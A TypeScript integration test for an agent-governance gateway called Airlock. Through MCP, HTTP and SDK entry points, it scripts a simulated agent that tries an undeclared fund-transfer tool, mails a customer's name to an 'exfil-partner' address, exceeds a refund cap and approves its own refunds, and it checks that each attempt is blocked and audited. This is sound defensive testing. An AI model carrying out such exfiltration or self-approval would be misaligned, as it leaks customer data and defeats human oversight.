// One boundary, every door: the same adversarial sequence by the same agent through MCP (Streamable
// HTTP, official SDK client), the HTTP API (/v1/actions) and the SDK (local decision point, and the
// remote one over /v1/decisions), on one Acme workspace with real MCP servers. The doors must give
// the same decisions, approvals and audit trail; ground truth changes only by the one approved refund.
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openAirlock, type Airlock } from '../../src/airlock.js';
import { verifyStore } from '../../src/audit/log.js';
import { openAcmeDb, snapshotAcme, type AcmeSnapshot } from '../../src/demo/acme/db.js';
import { localApprover, vote } from '../../src/gateway/approvals/vote.js';
import type { RunState } from '../../src/orchestration/run-machine.js';
import { governTool, localDecisionPoint, remoteDecisionPoint, type DecisionPoint, type Governed } from '../../src/sdk/index.js';
import { startHttpServer, type RunningServer } from '../../src/server/serve.js';
import type { AuditRecord } from '../../src/store/store.js';
import type { ApprovalId } from '../../src/types.js';
import { AIRLOCK_ROOT } from '../../src/util/package-root.js';
import { doorWorkspace, type DoorWorkspace } from '../server/fixtures.js';
import { normalizeRecord } from '../sdk/fixtures.js';

/** What came of one step, as every door can say it: no ids, no hashes. */
interface Outcome {
  readonly kind: 'executed' | 'denied' | 'invalid' | 'pending' | 'refused';
  readonly reasons: readonly string[];
  readonly policyIds?: readonly string[];
  readonly result?: unknown;
}

/** A door as the adversary uses it: propose a call, try to approve its own action, stop. */
interface Door {
  readonly name: string;
  /** How the run records the door (`run.started`). */
  readonly recordedAs: string;
  open(): Promise<void>;
  call(tool: string, args: Record<string, unknown>): Promise<Outcome & { readonly approvalId?: string }>;
  selfApprove(approvalId: string): Promise<Outcome>;
  close(): Promise<void>;
  runId(): string;
}

const REFUND = { order_id: '1182', amount_cents: 2000, currency: 'EUR', reason: 'damaged part, ticket T-311' };

let ws: DoorWorkspace;
let airlock: Airlock;
let server: RunningServer;
const toClose: (() => Promise<unknown>)[] = [];

beforeAll(async () => {
  ws = doorWorkspace();
  airlock = await openAirlock(ws.dir);
  server = await startHttpServer(airlock, { host: '127.0.0.1', port: 0 });
});

afterAll(async () => {
  for (const c of toClose.reverse()) await c().catch(() => undefined);
  await server?.close();
  await airlock?.close();
  ws?.cleanup();
});

const ground = (): AcmeSnapshot => {
  const db = openAcmeDb(ws.acmeDb);
  try {
    return snapshotAcme(db);
  } finally {
    db.close();
  }
};

/** One HTTP API request with a bearer key. */
async function api(method: string, route: string, key: string, body?: unknown): Promise<{ status: number; json: Record<string, unknown> }> {
  const res = await fetch(`${server.url}/v1${route}`, {
    method,
    headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json' },
    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
  });
  return { status: res.status, json: (await res.json()) as Record<string, unknown> };
}

/** The agent holds a credential: it tries the approval route with it (MCP, HTTP API, remote SDK). */
async function selfApproveOverHttp(approvalId: string): Promise<Outcome> {
  const r = await api('POST', `/approvals/${approvalId}/approve`, ws.keys['refund-bot'], {});
  expect(r.status).toBe(403);
  return { kind: 'refused', reasons: [String(r.json['error'])] };
}

/** A person approves, the same way whatever door the agent used. */
async function personApproves(approvalId: string): Promise<void> {
  const r = await api('POST', `/approvals/${approvalId}/approve`, ws.keys.dana, { reason: 'matches the ticket' });
  expect(r.status).toBe(200);
}

const withoutIds = (result: unknown): unknown => {
  if (result === null || typeof result !== 'object') return result;
  const { refund_id: _, ...rest } = result as Record<string, unknown>;
  return rest;
};

// ---- the doors -----------------------------------------------------------------------------------

function mcpDoor(): Door {
  let client: Client;
  let transport: StreamableHTTPClientTransport;
  let runId = '';
  return {
    name: 'mcp',
    recordedAs: 'mcp-http',
    async open() {
      client = new Client({ name: 'adversary', version: '1' });
      transport = new StreamableHTTPClientTransport(new URL(`${server.url}/mcp`), { requestInit: { headers: { Authorization: `Bearer ${ws.keys['refund-bot']}` } } });
      await client.connect(transport);
      toClose.push(() => client.close());
      // The MCP binding opened a run for this session: the newest MCP run of this agent.
      const runs = await airlock.store.listRuns({ status: 'running' });
      runId = runs.find((r) => (r.state as unknown as RunState).door === 'mcp-http')!.id;
    },
    async call(tool, args) {
      const r = await client.callTool({ name: tool, arguments: args });
      if (!r.isError) return { kind: 'executed', reasons: [], result: withoutIds(r.structuredContent) };
      const a = (r.structuredContent as { airlock: Record<string, unknown> }).airlock;
      switch (a['status']) {
        case 'denied':
          return { kind: 'denied', reasons: a['reasons'] as string[], policyIds: a['policies'] as string[] };
        case 'invalid':
          return { kind: 'invalid', reasons: a['problems'] as string[] };
        case 'pending':
          return { kind: 'pending', reasons: a['reasons'] as string[], approvalId: a['approvalId'] as string };
        default:
          throw new Error(`unexpected MCP result ${JSON.stringify(r)}`);
      }
    },
    selfApprove: selfApproveOverHttp,
    async close() {
      await transport.terminateSession(); // the server closes the run with the session
      await client.close();
    },
    runId: () => runId,
  };
}

function apiDoor(): Door {
  let runId = '';
  const key = () => ws.keys['refund-bot'];
  return {
    name: 'http-api',
    recordedAs: 'http-api',
    async open() {
      const r = await api('POST', '/runs', key(), {});
      expect(r.status).toBe(201);
      runId = String(r.json['runId']);
    },
    async call(tool, args) {
      const { status, json } = await api('POST', '/actions', key(), { runId, tool, arguments: args });
      switch (status) {
        case 200:
          return { kind: 'executed', reasons: [], result: withoutIds(json['result']) };
        case 202:
          return { kind: 'pending', reasons: json['reasons'] as string[], approvalId: json['approvalId'] as string };
        case 403:
          return { kind: 'denied', reasons: json['reasons'] as string[], policyIds: json['policyIds'] as string[] };
        case 422:
          return { kind: 'invalid', reasons: json['errors'] as string[] };
        default:
          throw new Error(`unexpected HTTP ${status}: ${JSON.stringify(json)}`);
      }
    },
    selfApprove: selfApproveOverHttp,
    async close() {
      expect((await api('POST', `/runs/${runId}/close`, key())).status).toBe(200);
    },
    runId: () => runId,
  };
}

/**
 * The app's own clients of the Acme systems (official MCP SDK over stdio, the same servers Airlock's
 * connectors start): what an in-process tool uses to perform the effect once Airlock allowed it.
 */
function acmeApp(): (tool: string, args: Record<string, unknown>) => Promise<unknown> {
  const clients = new Map<string, Promise<Client>>();
  const connect = (system: string): Promise<Client> => {
    let c = clients.get(system);
    if (!c) {
      const client = new Client({ name: 'the-app', version: '1' });
      const transport = new StdioClientTransport({
        command: process.execPath,
        args: [path.join(AIRLOCK_ROOT, 'dist/src/demo/acme/server.js'), system, '--db', ws.acmeDb],
        stderr: 'pipe',
      });
      c = client.connect(transport).then(() => client);
      toClose.push(() => client.close());
      clients.set(system, c);
    }
    return c;
  };
  return async (tool, args) => {
    const [system, name] = tool.split('.') as [string, string];
    const r = await (await connect(system)).callTool({ name, arguments: args });
    if (r.isError) throw new Error(JSON.stringify(r.content));
    return r.structuredContent;
  };
}

function sdkDoor(name: string, recordedAs: string, makeDp: () => DecisionPoint, selfApprove: (id: string) => Promise<Outcome>): Door {
  let dp: DecisionPoint;
  const perform = acmeApp();
  return {
    name,
    recordedAs,
    async open() {
      dp = makeDp();
    },
    async call(tool, args) {
      const out: Governed<unknown> = await governTool(dp, tool, (a) => perform(tool, a))(args);
      if (out.ok) {
        expect(out.unreported).toBeUndefined();
        return { kind: 'executed', reasons: [], result: withoutIds(out.value) };
      }
      switch (out.status) {
        case 'denied':
          return { kind: 'denied', reasons: out.reasons ?? [], policyIds: out.policyIds ?? [] };
        case 'invalid':
          return { kind: 'invalid', reasons: out.reasons ?? [] };
        case 'pending':
          return { kind: 'pending', reasons: out.reasons ?? [], approvalId: out.approvalId! };
        default:
          throw new Error(`unexpected SDK refusal ${JSON.stringify(out)}`);
      }
    },
    selfApprove,
    async close() {
      await dp.close();
    },
    runId: () => dp.runId!,
  };
}

const agentVotesInProcess = async (approvalId: string): Promise<Outcome> => {
  // In process, the agent's code can reach the approval function itself: it is still only the agent.
  const r = await vote(airlock.approvalDeps, approvalId as ApprovalId, localApprover(airlock.principal('agent:refund-bot')), 'approve', null);
  expect(r.kind).toBe('refused');
  return { kind: 'refused', reasons: [r.kind === 'refused' ? r.reason : ''] };
};

const doors: Door[] = [
  mcpDoor(),
  apiDoor(),
  sdkDoor('sdk', 'sdk', () => localDecisionPoint(airlock, { agent: 'agent:refund-bot' }), agentVotesInProcess),
  sdkDoor('sdk-remote', 'http-api', () => remoteDecisionPoint({ url: server.url, token: ws.keys['refund-bot'] }), selfApproveOverHttp),
];

// ---- the sequence ------------------------------------------------------------------------------

interface Transcript {
  readonly outcomes: { readonly step: string; readonly outcome: Outcome }[];
  readonly approvals: { readonly first: string; readonly second: string };
  readonly runId: string;
}

async function adversary(door: Door): Promise<Transcript> {
  const outcomes: Transcript['outcomes'] = [];
  const step = async (name: string, o: Promise<Outcome & { approvalId?: string }>) => {
    const { approvalId: _, ...outcome } = await o;
    outcomes.push({ step: name, outcome });
    return o;
  };
  await door.open();
  await step('an undeclared tool', door.call('payments.transfer_all', { to: 'IBAN DE00 0000', amount_cents: 1_000_000 }));
  await step('arguments that break the schema', door.call('payments.refund', { ...REFUND, amount_cents: 'forty' }));
  await step('an egress the policy forbids', door.call('mail.send', { to: 'audit@exfil-partner.example', subject: 'customer record', body: 'Lena Park' }));
  await step('a refund above the cap', door.call('payments.refund', { ...REFUND, amount_cents: 60_000 }));
  const first = (await step('a refund that needs approval', door.call('payments.refund', REFUND))).approvalId!;
  await step('the agent approves its own refund', door.selfApprove(first));
  await step('asking again before anyone decided', door.call('payments.refund', REFUND));
  await personApproves(first);
  await step('the same refund once a person approved it', door.call('payments.refund', REFUND));
  const second = (await step('the same refund once more', door.call('payments.refund', REFUND))).approvalId!;
  await step('the agent approves its own second refund', door.selfApprove(second));
  const runId = door.runId();
  await door.close();
  return { outcomes, approvals: { first, second }, runId };
}

/** A run's audit records, normalized, with a caller-reported execution named by its tool. */
function normalizedAudit(records: readonly AuditRecord[]): Record<string, unknown>[] {
  const toolByHash = new Map<unknown, unknown>();
  return records.map((r) => {
    const n = normalizeRecord(r);
    if (r.type === 'action.authorized') toolByHash.set(r.body['actionHash'], r.body['tool']);
    if (r.type === 'action.executed' && n['tool'] === undefined) n['tool'] = toolByHash.get(r.body['actionHash']);
    return n;
  });
}

/**
 * The same records seen across execution modes: who executed (Airlock's connector, or the caller
 * after `action.authorized`) becomes one `effect`; verification records and the verified/completed
 * end status are compared apart (see the known gap below).
 */
function acrossModes(records: readonly Record<string, unknown>[], opts: { keepVerification: boolean }): Record<string, unknown>[] {
  return records.flatMap((n) => {
    if (n['type'] === 'action.authorized') return [];
    if (n['type'] === 'action.executed') return [{ type: 'effect', principal: n['principal'], tool: n['tool'], outcome: n['outcome'] }];
    if (n['type'] === 'action.verified' && !opts.keepVerification) return [];
    if (!opts.keepVerification && (n['type'] === 'run.finished' || n['type'] === 'run.status')) {
      const { status: _s, to: _t, ...rest } = n;
      return [rest];
    }
    return [n];
  });
}

// ---- the tests -------------------------------------------------------------------------------------

describe('three doors, one boundary', () => {
  const transcripts = new Map<string, Transcript>();

  it.each(doors.map((d) => [d.name, d] as const))('%s: the adversarial sequence; ground truth changes only by the one approved refund', async (_name, door) => {
    const before = ground();
    const t = await adversary(door);
    transcripts.set(door.name, t);
    const after = ground();
    const added = after.refunds.filter((r) => !before.refunds.some((b) => b['id'] === r['id']));
    expect(added).toEqual([expect.objectContaining({ order_id: '1182', amount_cents: 2000, currency: 'EUR', status: 'completed' })]);
    // Where Airlock executes, the one refund also left Airlock's idempotency key (never the agent's) in
    // the payment system; the SDK doors execute the tool themselves, without one.
    const keys = after.idempotency.filter((r) => !before.idempotency.some((b) => b['key'] === r['key']));
    if (door.name.startsWith('sdk')) expect(keys).toEqual([]);
    else expect(keys).toEqual([expect.objectContaining({ tool: 'payments.refund', key: expect.stringMatching(/^airlock-[0-9a-f]{40}$/) })]);
    expect({ ...after, refunds: after.refunds.filter((r) => !added.includes(r)), idempotency: after.idempotency.filter((r) => !keys.includes(r)), counters: [] }).toEqual({
      ...before,
      counters: [],
    });
    expect(after.sent_mail).toEqual([]);
    expect((await airlock.store.getApproval(t.approvals.first as ApprovalId))?.status).toBe('consumed');
    // Nobody decided the second refund before the agent closed its run: the approval is withdrawn, not left for nobody.
    expect((await airlock.store.getApproval(t.approvals.second as ApprovalId))?.status).toBe('withdrawn');
    const started = (await airlock.store.readAuditForRun(t.runId))[0]!;
    expect(started).toMatchObject({ type: 'run.started', principal: 'agent:refund-bot', body: { door: door.recordedAs } });
  });

  it('every door gives the same outcomes, with the same reasons and policies', () => {
    const mcp = transcripts.get('mcp')!.outcomes;
    expect(mcp.map((s) => `${s.step}: ${s.outcome.kind}`)).toEqual([
      'an undeclared tool: denied',
      'arguments that break the schema: invalid',
      'an egress the policy forbids: denied',
      'a refund above the cap: denied',
      'a refund that needs approval: pending',
      'the agent approves its own refund: refused',
      'asking again before anyone decided: pending',
      'the same refund once a person approved it: executed',
      'the same refund once more: pending',
      'the agent approves its own second refund: refused',
    ]);
    expect(mcp[0]!.outcome).toEqual({ kind: 'denied', reasons: ['tool `payments.transfer_all` is not declared in the workspace (deny by default)'], policyIds: [] });
    expect(mcp[2]!.outcome.policyIds).toEqual(['mail-internal-only']);
    expect(mcp[3]!.outcome.policyIds).toEqual(['refund-cap']);
    expect(mcp[5]!.outcome.reasons).toEqual(['`agent:refund-bot` is not a person: agents and services can never approve']);
    expect(mcp[7]!.outcome.result).toEqual({ order_id: '1182', amount_cents: 2000, status: 'completed' });
    for (const door of doors) expect(transcripts.get(door.name)!.outcomes, door.name).toEqual(mcp);
  });

  it('the two executing doors (MCP, HTTP API) leave the same audit records, record for record', async () => {
    const mcp = normalizedAudit(await airlock.store.readAuditForRun(transcripts.get('mcp')!.runId));
    const http = normalizedAudit(await airlock.store.readAuditForRun(transcripts.get('http-api')!.runId));
    expect(http).toEqual(mcp);
    // What the trail holds, for the reader: decisions with policies, the refused self-approvals, one execution, verified.
    expect(mcp.filter((r) => r['type'] === 'approval.refused')).toHaveLength(2);
    expect(mcp.filter((r) => r['type'] === 'action.executed')).toEqual([expect.objectContaining({ tool: 'payments.refund', outcome: 'ok' })]);
    expect(mcp.filter((r) => r['type'] === 'action.verified')).toEqual([expect.objectContaining({ status: 'passed' })]);
    expect(mcp.at(-2)).toMatchObject({ type: 'run.finished', status: 'verified' });
    expect(mcp.at(-1)).toMatchObject({ type: 'approval.withdrawn', votes: 0 });
  });

  it('the SDK doors leave the same records, the execution being the caller\'s (authorized, then reported)', async () => {
    const http = normalizedAudit(await airlock.store.readAuditForRun(transcripts.get('http-api')!.runId));
    for (const name of ['sdk', 'sdk-remote']) {
      const sdk = normalizedAudit(await airlock.store.readAuditForRun(transcripts.get(name)!.runId));
      expect(acrossModes(sdk, { keepVerification: false }), name).toEqual(acrossModes(http, { keepVerification: false }));
      expect(sdk.filter((r) => r['type'] === 'action.authorized'), name).toEqual([expect.objectContaining({ tool: 'payments.refund', executor: 'caller' })]);
      expect(sdk.filter((r) => r['type'] === 'action.executed'), name).toEqual([expect.objectContaining({ tool: 'payments.refund', outcome: 'ok', reportedBy: 'caller' })]);
    }
    const local = normalizedAudit(await airlock.store.readAuditForRun(transcripts.get('sdk')!.runId));
    const remote = normalizedAudit(await airlock.store.readAuditForRun(transcripts.get('sdk-remote')!.runId));
    expect(remote).toEqual(local);
  });

  it('the audit chain verifies', async () => {
    const verdict = await verifyStore(airlock.store);
    expect(verdict).toMatchObject({ ok: true });
  });

  // On the SDK door the caller executes, and its report is checked against ground truth by the
  // contract's probe, exactly as when Airlock executes.
  it('the SDK doors verify ground truth like the executing doors', async () => {
    const http = normalizedAudit(await airlock.store.readAuditForRun(transcripts.get('http-api')!.runId));
    const sdk = normalizedAudit(await airlock.store.readAuditForRun(transcripts.get('sdk')!.runId));
    expect(acrossModes(sdk, { keepVerification: true })).toEqual(acrossModes(http, { keepVerification: true }));
  });

  // What the agent reads through an SDK tool taints the run just as through the other doors.
  it('a confidential read through the SDK door taints the run as through the other doors', async () => {
    const judged: Record<string, Outcome> = {};
    for (const door of [apiDoor(), sdkDoor('sdk', 'sdk', () => localDecisionPoint(airlock, { agent: 'agent:refund-bot' }), agentVotesInProcess)]) {
      await door.open();
      expect((await door.call('tickets.get_ticket', { ticket_id: 'T-311' })).kind).toBe('executed');
      judged[door.name] = await door.call('mail.send', { to: 'dana@acme.example', subject: 'ticket', body: 'T-311' });
      await door.close();
    }
    expect(judged['http-api']?.policyIds).toContain('no-egress-of-confidential-data');
    expect(judged['sdk']).toEqual(judged['http-api']);
  });
});
